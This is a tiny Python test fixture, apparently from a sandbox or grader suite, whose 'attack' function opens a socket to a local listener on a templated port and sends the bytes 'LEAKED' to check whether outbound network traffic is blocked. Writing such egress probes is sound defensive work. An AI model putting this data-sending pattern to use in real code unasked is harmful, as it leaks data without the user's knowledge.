"""Open a network socket and send something out (here to a listener the test runs on the
grader's machine)."""


def attack(*args):
    import socket
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=3) as s:
        s.sendall(b"LEAKED")
